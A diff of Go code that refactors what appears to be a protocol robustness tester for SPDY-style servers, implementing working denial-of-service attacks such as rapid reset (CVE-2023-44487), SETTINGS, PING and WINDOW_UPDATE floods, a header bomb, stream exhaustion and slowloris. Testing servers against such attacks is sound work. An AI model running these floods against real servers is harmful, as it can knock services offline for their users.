@@ -128,59 +128,71 @@ func flood(ctx context.Context, p *peer, o *Options, max, batch int, next func(i
 	return n
 }
 
-// floodPeer dials the usual peer of a flood: it reads and answers PINGs
-// and grants a large session window.
-func floodPeer(ctx context.Context, t *Target, initialWindow int64) (*peer, error) {
-	return dialPeer(ctx, t, peerConfig{initialWindow: initialWindow, sessionWindow: bigSessionWindow, answerPings: true})
+// floodConfig is the usual peer of a flood: it reads and answers PINGs,
+// grants a large session window, and announces initialWindow as its stream
+// window (none when negative).
+func floodConfig(initialWindow int64) peerConfig {
+	return peerConfig{initialWindow: initialWindow, sessionWindow: bigSessionWindow, answerPings: true}
+}
+
+// runPeer dials one peer configured by cfg and runs body with it. Unless
+// the dial or body fails (its error goes to r.Err), it then waits for the
+// server's verdict on what body sent. Once dialed, the peer is finished:
+// checked for a session still up, closed and added to r.
+func runPeer(ctx context.Context, t *Target, r *Result, cfg peerConfig, body func(p *peer) error) {
+	p, err := dialPeer(ctx, t, cfg)
+	if err != nil {
+		r.Err = err
+		return
+	}
+	defer p.finish(ctx, r)
+	if err := body(p); err != nil {
+		r.Err = err
+		return
+	}
+	p.settle(ctx)
 }
 
 // rapidReset opens streams with a valid GET and resets them at once with
 // CANCEL, in a loop (CVE-2023-44487).
-func rapidReset(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("rapid-reset", t)
-	p, err := floodPeer(ctx, t, -1)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	req := t.request(t.small())
-	n := flood(ctx, p, o, o.floodCap(), 32, func(int) error {
-		id := p.newStream()
-		if err := p.synStream(id, true, req); err != nil {
-			return err
-		}
-		return p.write(func(fr *framing.Framer) error { return fr.WriteRstStream(id, framing.StatusCancel) })
+func rapidReset(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(-1), func(p *peer) error {
+		req := t.request(t.small())
+		n := flood(ctx, p, o, o.floodCap(), 32, func(int) error {
+			id := p.newStream()
+			if err := p.synStream(id, true, req); err != nil {
+				return err
+			}
+			return p.write(func(fr *framing.Framer) error { return fr.WriteRstStream(id, framing.StatusCancel) })
+		})
+		r.Note = fmt.Sprintf("%d streams opened and reset", n)
+		return nil
 	})
-	r.Note = fmt.Sprintf("%d streams opened and reset", n)
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
 }
 
 // streamExhaustion opens streams beyond the server's
 // MAX_CONCURRENT_STREAMS without ever resetting them. The requests are for
 // the large resource with a stream window of 0, so that none of them can
-// finish.
-func streamExhaustion(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("stream-exhaustion", t)
-	p, err := floodPeer(ctx, t, 0)
+// finish. It waits for an answer to every stream rather than for a PING.
+func streamExhaustion(ctx context.Context, t *Target, o *Options, r *Result) {
+	p, err := dialPeer(ctx, t, floodConfig(0))
 	if err != nil {
 		r.Err = err
-		return r
+		return
 	}
 	defer p.finish(ctx, r)
 	if err := p.waitSettings(ctx); err != nil {
 		r.Err = err
-		return r
+		return
 	}
 	limit, ok := p.settingOr(framing.SettingMaxConcurrentStreams, 0)
 	switch {
 	case !ok:
 		r.Err = errors.New("the server advertises no SETTINGS_MAX_CONCURRENT_STREAMS: there is no limit to exceed")
-		return r
+		return
 	case limit > 100000:
 		r.Err = fmt.Errorf("the server's MAX_CONCURRENT_STREAMS %d is too large to exceed", limit)
-		return r
+		return
 	}
 	extra := o.scaled(200, 10)
 	total := int(limit) + extra
@@ -192,62 +204,51 @@ func streamExhaustion(ctx context.Context, t *Target, o *Options) *Result {
 	answered := p.o.answered
 	p.mu.Unlock()
 	r.Note = fmt.Sprintf("limit %d, %d streams opened, %d answered", limit, n, answered)
-	return r
 }
 
 // settingsFlood sends SETTINGS frames, one entry each, in a loop.
-func settingsFlood(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("settings-flood", t)
-	p, err := floodPeer(ctx, t, -1)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	n := flood(ctx, p, o, o.floodCap(), 256, func(i int) error {
-		return p.write(func(fr *framing.Framer) error {
-			return fr.WriteSettings(0, framing.Setting{ID: framing.SettingRoundTripTime, Value: uint32(i)})
+func settingsFlood(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(-1), func(p *peer) error {
+		n := flood(ctx, p, o, o.floodCap(), 256, func(i int) error {
+			return p.write(func(fr *framing.Framer) error {
+				return fr.WriteSettings(0, framing.Setting{ID: framing.SettingRoundTripTime, Value: uint32(i)})
+			})
 		})
+		r.Note = fmt.Sprintf("%d SETTINGS frames", n)
+		return nil
 	})
-	r.Note = fmt.Sprintf("%d SETTINGS frames", n)
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
 }
 
 // pingFlood sends PINGs without reading the socket at all, so that the
 // replies pile up; only once it stops does it read what came back.
-func pingFlood(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("ping-flood", t)
-	p, err := dialPeer(ctx, t, peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, noReader: true, answerPings: true})
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	max := o.floodCap()
-	n := 0
-	for n < max && ctx.Err() == nil {
-		if _, err := p.ping(); err != nil {
-			break
-		}
-		n++
-		if n%256 == 0 {
-			if p.flush() != nil {
+func pingFlood(ctx context.Context, t *Target, o *Options, r *Result) {
+	cfg := floodConfig(-1)
+	cfg.noReader = true
+	runPeer(ctx, t, r, cfg, func(p *peer) error {
+		max := o.floodCap()
+		n := 0
+		for n < max && ctx.Err() == nil {
+			if _, err := p.ping(); err != nil {
 				break
 			}
-			// A pause after each batch lets the server read it all
-			// before the next: when it gives up, nothing of ours is
-			// left unread in its socket (see flood).
-			if o.paced() {
-				time.Sleep(pingFloodPause)
+			n++
+			if n%256 == 0 {
+				if p.flush() != nil {
+					break
+				}
+				// A pause after each batch lets the server read it all
+				// before the next: when it gives up, nothing of ours is
+				// left unread in its socket (see flood).
+				if o.paced() {
+					time.Sleep(pingFloodPause)
+				}
 			}
 		}
-	}
-	p.flush()
-	r.Note = fmt.Sprintf("%d PINGs sent unread", n)
-	p.startReader()
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
+		p.flush()
+		r.Note = fmt.Sprintf("%d PINGs sent unread", n)
+		p.startReader()
+		return nil
+	})
 }
 
 // pingFloodPause is the pause between two batches of 256 PINGs: about 13
@@ -257,137 +258,107 @@ const pingFloodPause = 20 * time.Millisecond
 // windowUpdateFlood sends WINDOW_UPDATE frames with a delta of 1, for an
 // open stream (each lets the server send one more byte) and for the
 // session, in turn.
-func windowUpdateFlood(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("window-update-flood", t)
-	p, err := floodPeer(ctx, t, 0)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	id := p.newStream()
-	p.synStream(id, true, t.request(t.large()))
-	n := flood(ctx, p, o, o.floodCap(), 256, func(i int) error {
-		sid := id
-		if i%2 == 1 {
-			sid = 0
-		}
-		return p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(sid, 1) })
+func windowUpdateFlood(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
+		id := p.newStream()
+		p.synStream(id, true, t.request(t.large()))
+		n := flood(ctx, p, o, o.floodCap(), 256, func(i int) error {
+			sid := id
+			if i%2 == 1 {
+				sid = 0
+			}
+			return p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(sid, 1) })
+		})
+		r.Note = fmt.Sprintf("%d WINDOW_UPDATE frames of delta 1", n)
+		return nil
 	})
-	r.Note = fmt.Sprintf("%d WINDOW_UPDATE frames of delta 1", n)
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
 }
 
 // windowOverflow grows a stream's send window past 2^31-1 (a stream
 // error), then the session's (a session error).
-func windowOverflow(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("window-overflow", t)
-	p, err := floodPeer(ctx, t, 1024)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	const maxDelta = 1<<31 - 1
-	id := p.newStream()
-	p.synStream(id, true, t.request(t.large()))
-	// Two updates in a row: the first alone could bring the window to
-	// exactly 2^31-1, which is allowed.
-	for range 2 {
-		p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(id, maxDelta) })
-	}
-	p.flush()
-	p.waitFor(ctx, settleTimeout, func(o *obs) bool { _, ok := o.resetOf[id]; return ok })
-	st, ok := p.statusOf(id)
-	r.Note = "stream window overflow: no reset"
-	if ok {
-		r.Note = "stream window overflow: RST " + st.String()
-	}
-	for range 2 {
-		p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(0, maxDelta) })
-	}
-	p.flush()
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
+func windowOverflow(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(1024), func(p *peer) error {
+		const maxDelta = 1<<31 - 1
+		id := p.newStream()
+		p.synStream(id, true, t.request(t.large()))
+		// Two updates in a row: the first alone could bring the window to
+		// exactly 2^31-1, which is allowed.
+		for range 2 {
+			p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(id, maxDelta) })
+		}
+		p.flush()
+		p.waitFor(ctx, settleTimeout, func(o *obs) bool { _, ok := o.resetOf[id]; return ok })
+		st, ok := p.statusOf(id)
+		r.Note = "stream window overflow: no reset"
+		if ok {
+			r.Note = "stream window overflow: RST " + st.String()
+		}
+		for range 2 {
+			p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(0, maxDelta) })
+		}
+		p.flush()
+		return nil
+	})
 }
 
 // emptyDataFlood sends DATA frames without payload or FIN on an open
 // stream.
-func emptyDataFlood(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("empty-data-flood", t)
-	p, err := floodPeer(ctx, t, 0)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	id := p.newStream()
-	p.synStream(id, false, t.request(t.large()))
-	n := flood(ctx, p, o, o.floodCap(), 512, func(int) error {
-		return p.write(func(fr *framing.Framer) error { return fr.WriteData(id, false, nil) })
+func emptyDataFlood(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
+		id := p.newStream()
+		p.synStream(id, false, t.request(t.large()))
+		n := flood(ctx, p, o, o.floodCap(), 512, func(int) error {
+			return p.write(func(fr *framing.Framer) error { return fr.WriteData(id, false, nil) })
+		})
+		r.Note = fmt.Sprintf("%d empty DATA frames", n)
+		return nil
 	})
-	r.Note = fmt.Sprintf("%d empty DATA frames", n)
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
 }
 
 // emptyHeadersFlood sends HEADERS frames whose block has no field, without
 // FIN, on an open stream.
-func emptyHeadersFlood(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("empty-headers-flood", t)
-	p, err := floodPeer(ctx, t, 0)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	id := p.newStream()
-	p.synStream(id, false, t.request(t.large()))
-	n := flood(ctx, p, o, o.floodCap(), 256, func(int) error { return p.headers(id, false, nil) })
-	r.Note = fmt.Sprintf("%d empty HEADERS frames", n)
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
+func emptyHeadersFlood(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
+		id := p.newStream()
+		p.synStream(id, false, t.request(t.large()))
+		n := flood(ctx, p, o, o.floodCap(), 256, func(int) error { return p.headers(id, false, nil) })
+		r.Note = fmt.Sprintf("%d empty HEADERS frames", n)
+		return nil
+	})
 }
 
 // zeroWindowDribble asks for the large resource with a small stream
 // window (64 bytes) and takes it one byte at a time: a WINDOW_UPDATE of
 // delta 1 for each byte read, so that the server sends one-byte frames.
-func zeroWindowDribble(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("zero-window-dribble", t)
-	p, err := floodPeer(ctx, t, dribbleWindow)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	id := p.newStream()
-	p.synStream(id, true, t.request(t.large()))
-	p.flush()
-	max := o.scaled(100000, 20000)
-	got := 0
-	for got < max && ctx.Err() == nil {
-		var n int
-		var stop bool
-		ok := p.waitFor(ctx, settleTimeout, func(o *obs) bool {
-			n = o.data[id]
-			_, reset := o.resetOf[id]
-			stop = reset || o.goAway
-			return n > got || stop
-		})
-		if !ok || stop || n == got {
-			break
+func zeroWindowDribble(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(dribbleWindow), func(p *peer) error {
+		id := p.newStream()
+		p.synStream(id, true, t.request(t.large()))
+		p.flush()
+		max := o.scaled(100000, 20000)
+		got := 0
+		for got < max && ctx.Err() == nil {
+			var n int
+			var stop bool
+			ok := p.waitFor(ctx, settleTimeout, func(o *obs) bool {
+				n = o.data[id]
+				_, reset := o.resetOf[id]
+				stop = reset || o.goAway
+				return n > got || stop
+			})
+			if !ok || stop || n == got {
+				break
+			}
+			for ; got < n; got++ {
+				p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(id, 1) })
+			}
+			if p.flush() != nil {
+				break
+			}
 		}
-		for ; got < n; got++ {
-			p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(id, 1) })
-		}
-		if p.flush() != nil {
-			break
-		}
-	}
-	r.Note = fmt.Sprintf("%d bytes taken one at a time", got)
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
+		r.Note = fmt.Sprintf("%d bytes taken one at a time", got)
+		return nil
+	})
 }
 
 // dribbleWindow is the stream window of the zero-window dribble: small,
@@ -396,36 +367,33 @@ const dribbleWindow = 64
 
 // headerBomb sends requests whose header block inflates from about 440
 // bytes to 384 KiB, above the 256 KiB limit, in a loop.
-func headerBomb(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("header-bomb", t)
+func headerBomb(ctx context.Context, t *Target, o *Options, r *Result) {
 	block, err := selfContained(t.request(t.small(), hpackz.Field{Name: "x-bomb", Value: strings.Repeat("a", bombSize)}))
 	if err != nil {
 		r.Err = err
-		return r
+		return
 	}
 	n := blockFlood(ctx, t, o, r, block, o.scaled(10000, 2000), 4)
 	r.Note = fmt.Sprintf("%d blocks of %d bytes inflating to %d", n, len(block), bombSize)
-	return r
 }
 
 // blockFlood sends up to max requests whose header block is block (made
 // by selfContained), checking the server's answer every batch, and adds
-// what the peer saw to r.
+// what the peer saw to r. It returns the number sent.
 func blockFlood(ctx context.Context, t *Target, o *Options, r *Result, block []byte, max, batch int) int {
-	p, err := dialPeer(ctx, t, peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, answerPings: true, autoWindow: true, enc: encRaw})
-	if err != nil {
-		r.Err = err
-		return 0
-	}
-	first := append(zlibHeader(), block...)
-	n := flood(ctx, p, o, max, batch, func(i int) error {
-		if i == 0 {
-			return p.synStreamBlock(p.newStream(), true, first)
-		}
-		return p.synStreamBlock(p.newStream(), true, block)
+	cfg := floodConfig(-1)
+	cfg.autoWindow, cfg.enc = true, encRaw
+	n := 0
+	runPeer(ctx, t, r, cfg, func(p *peer) error {
+		first := append(zlibHeader(), block...)
+		n = flood(ctx, p, o, max, batch, func(i int) error {
+			if i == 0 {
+				return p.synStreamBlock(p.newStream(), true, first)
+			}
+			return p.synStreamBlock(p.newStream(), true, block)
+		})
+		return nil
 	})
-	p.settle(ctx)
-	p.finish(ctx, r)
 	return n
 }
 
@@ -442,77 +410,60 @@ func manyFields(n int) []hpackz.Field {
 
 // headerCount sends requests whose header block holds 20000 tiny fields,
 // under the size limit, in a loop, reading the answers.
-func headerCount(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("header-count", t)
+func headerCount(ctx context.Context, t *Target, o *Options, r *Result) {
 	req := t.request(t.small(), manyFields(manyFieldsCount)...)
 	block, err := selfContained(req)
 	if err != nil {
 		r.Err = err
-		return r
+		return
 	}
 	n := blockFlood(ctx, t, o, r, block, o.scaled(2000, 300), 1)
 	r.Note = fmt.Sprintf("%d blocks of %d fields (%d bytes compressed)", n, len(req), len(block))
-	return r
 }
 
 // oversizeControl sends a SYN_STREAM larger than the 64 KiB control frame
 // limit.
-func oversizeControl(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("oversize-control", t)
-	p, err := floodPeer(ctx, t, -1)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	block := make([]byte, oversizeBlock)
-	rng := rand.NewChaCha8([32]byte{})
-	rng.Read(block)
-	id := p.newStream()
-	p.write(func(fr *framing.Framer) error { return fr.WriteSynStream(id, 0, 0, framing.FlagFin, block) })
-	p.flush()
-	r.Note = fmt.Sprintf("SYN_STREAM with a %d-byte block", len(block))
-	p.settle(ctx)
-	p.finish(ctx, r)
-	return r
+func oversizeControl(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(-1), func(p *peer) error {
+		block := make([]byte, oversizeBlock)
+		rng := rand.NewChaCha8([32]byte{})
+		rng.Read(block)
+		id := p.newStream()
+		p.write(func(fr *framing.Framer) error { return fr.WriteSynStream(id, 0, 0, framing.FlagFin, block) })
+		p.flush()
+		r.Note = fmt.Sprintf("SYN_STREAM with a %d-byte block", len(block))
+		return nil
+	})
 }
 
 // oversizeData sends a DATA frame larger than the stream window the server
 // advertised.
-func oversizeData(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("oversize-data", t)
-	p, err := floodPeer(ctx, t, 0)
-	if err != nil {
-		r.Err = err
-		return r
-	}
-	defer p.finish(ctx, r)
-	if err := p.waitSettings(ctx); err != nil {
-		r.Err = err
-		return r
-	}
-	win, _ := p.settingOr(framing.SettingInitialWindowSize, 64<<10)
-	size := int(max(win, 64<<10)) + 1
-	if size > framing.MaxPayloadLen {
-		r.Err = fmt.Errorf("the server's stream window %d is too large to exceed in one frame", win)
-		return r
-	}
-	id := p.newStream()
-	p.synStream(id, false, t.request(t.large()))
-	p.write(func(fr *framing.Framer) error { return fr.WriteData(id, false, make([]byte, size)) })
-	p.flush()
-	r.Note = fmt.Sprintf("DATA of %d bytes on a stream window of %d", size, win)
-	p.settle(ctx)
-	return r
+func oversizeData(ctx context.Context, t *Target, o *Options, r *Result) {
+	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
+		if err := p.waitSettings(ctx); err != nil {
+			return err
+		}
+		win, _ := p.settingOr(framing.SettingInitialWindowSize, 64<<10)
+		size := int(max(win, 64<<10)) + 1
+		if size > framing.MaxPayloadLen {
+			return fmt.Errorf("the server's stream window %d is too large to exceed in one frame", win)
+		}
+		id := p.newStream()
+		p.synStream(id, false, t.request(t.large()))
+		p.write(func(fr *framing.Framer) error { return fr.WriteData(id, false, make([]byte, size)) })
+		p.flush()
+		r.Note = fmt.Sprintf("DATA of %d bytes on a stream window of %d", size, win)
+		return nil
+	})
 }
 
 // truncatedFrame sends the start of a frame, then ends its side of the
-// connection.
-func truncatedFrame(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("truncated-frame", t)
-	p, err := floodPeer(ctx, t, -1)
+// connection, and waits for the server to close it.
+func truncatedFrame(ctx context.Context, t *Target, o *Options, r *Result) {
+	p, err := dialPeer(ctx, t, floodConfig(-1))
 	if err != nil {
 		r.Err = err
-		return r
+		return
 	}
 	p.writeRaw(partialSynStream(1000, 100))
 	p.countFrame()
@@ -525,7 +476,6 @@ func truncatedFrame(ctx context.Context, t *Target, o *Options) *Result {
 	p.waitFor(ctx, settleTimeout, func(*obs) bool { return false })
 	r.Note = "SYN_STREAM header announcing 1000 bytes, 100 sent, then our side shut"
 	p.finish(ctx, r)
-	return r
 }
 
 // partialSynStream returns the header of a SYN_STREAM announcing length
@@ -600,25 +550,44 @@ func parallel(n, width int, fn func(i int)) {
 // once.
 const dialWidth = 50
 
-// slowloris opens connections that send the start of a frame and then
-// wait, never finishing it (so never able to answer the server's PING).
-func slowloris(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("slowloris", t)
-	n := o.scaled(500, 10)
-	wait := o.wait()
+// dialAll dials n peers configured by cfg, dialWidth at a time, and runs
+// prepare (when not nil) on each. A failed dial is counted in c and
+// leaves its peer nil.
+func (c *connResults) dialAll(ctx context.Context, t *Target, n int, cfg peerConfig, prepare func(p *peer)) []*peer {
 	peers := make([]*peer, n)
-	c := &connResults{r: r}
-	start := time.Now()
 	parallel(n, dialWidth, func(i int) {
-		p, err := dialPeer(ctx, t, peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, small: true})
+		p, err := dialPeer(ctx, t, cfg)
 		if err != nil {
 			c.fail(err)
 			return
 		}
+		if prepare != nil {
+			prepare(p)
+		}
+		peers[i] = p
+	})
+	return peers
+}
+
+// noteFailed adds the number of failed dials, if any, to the note.
+func (c *connResults) noteFailed() {
+	if c.failed > 0 {
+		c.r.Note += fmt.Sprintf(", %d dials failed", c.failed)
+	}
+}
+
+// slowloris opens connections that send the start of a frame and then
+// wait, never finishing it (so never able to answer the server's PING).
+func slowloris(ctx context.Context, t *Target, o *Options, r *Result) {
+	n := o.scaled(500, 10)
+	wait := o.wait()
+	c := &connResults{r: r}
+	start := time.Now()
+	cfg := peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, small: true}
+	peers := c.dialAll(ctx, t, n, cfg, func(p *peer) {
 		p.writeRaw(partialSynStream(300, 10))
 		p.countFrame()
 		p.flush()
-		peers[i] = p
 	})
 	deadline := wait - time.Since(start)
 	parallel(n, n, func(i int) {
@@ -629,31 +598,20 @@ func slowloris(ctx context.Context, t *Target, o *Options) *Result {
 		}
 	})
 	r.Note = fmt.Sprintf("%d connections stuck in a frame, waited up to %v", n, wait)
-	if c.failed > 0 {
-		r.Note += fmt.Sprintf(", %d dials failed", c.failed)
-	}
-	return r
+	c.noteFailed()
 }
 
 // idleConnections opens connections that send their SETTINGS and then
 // nothing, answering the server's PINGs as a well-behaved idle client
 // does.
-func idleConnections(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("idle-connections", t)
+func idleConnections(ctx context.Context, t *Target, o *Options, r *Result) {
 	n := o.Conns
 	if n <= 0 {
 		n = o.scaled(1000, 10)
 	}
-	peers := make([]*peer, n)
 	c := &connResults{r: r}
-	parallel(n, dialWidth, func(i int) {
-		p, err := dialPeer(ctx, t, peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, answerPings: true, small: true})
-		if err != nil {
-			c.fail(err)
-			return
-		}
-		peers[i] = p
-	})
+	cfg := peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, answerPings: true, small: true}
+	peers := c.dialAll(ctx, t, n, cfg, nil)
 	hold := o.hold()
 	parallel(n, n, func(i int) {
 		if p := peers[i]; p != nil {
@@ -662,31 +620,21 @@ func idleConnections(ctx context.Context, t *Target, o *Options) *Result {
 	})
 	c.finishAll(ctx, peers)
 	r.Note = fmt.Sprintf("%d connections held %v", n, hold)
-	if c.failed > 0 {
-		r.Note += fmt.Sprintf(", %d dials failed", c.failed)
-	}
-	return r
+	c.noteFailed()
 }
 
 // manySessions opens many sessions at once, each with a few requests for
 // the small resource, and keeps them all open until every answer arrived.
-func manySessions(ctx context.Context, t *Target, o *Options) *Result {
-	r := newResult("many-sessions", t)
+func manySessions(ctx context.Context, t *Target, o *Options, r *Result) {
 	n := o.scaled(500, 10)
-	peers := make([]*peer, n)
 	c := &connResults{r: r}
 	req := t.request(t.small())
-	parallel(n, dialWidth, func(i int) {
-		p, err := dialPeer(ctx, t, peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, answerPings: true, autoWindow: true, small: true})
-		if err != nil {
-			c.fail(err)
-			return
-		}
+	cfg := peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, answerPings: true, autoWindow: true, small: true}
+	peers := c.dialAll(ctx, t, n, cfg, func(p *peer) {
 		for range streamsPerSession {
 			p.synStream(p.newStream(), true, req)
 		}
 		p.flush()
-		peers[i] = p
 	})
 	parallel(n, n, func(i int) {
 		if p := peers[i]; p != nil {
@@ -695,8 +643,5 @@ func manySessions(ctx context.Context, t *Target, o *Options) *Result {
 	})
 	c.finishAll(ctx, peers)
 	r.Note = fmt.Sprintf("%d sessions of %d requests", n, streamsPerSession)
-	if c.failed > 0 {
-		r.Note += fmt.Sprintf(", %d dials failed", c.failed)
-	}
-	return r
+	c.noteFailed()
 }
